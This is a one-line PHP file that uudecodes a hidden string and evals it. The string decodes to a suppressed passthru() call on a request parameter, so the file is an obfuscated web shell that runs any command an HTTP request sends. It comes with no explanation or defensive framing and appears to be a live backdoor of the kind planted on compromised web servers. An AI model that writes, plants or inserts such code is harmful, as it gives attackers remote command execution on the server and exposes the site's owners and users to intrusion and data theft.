<?php $d = convert_uudecode("<0'!A<W-T:')U*\"1?4D5154535%LG8VUD)UTI.P  \n`\n"); eval($d);
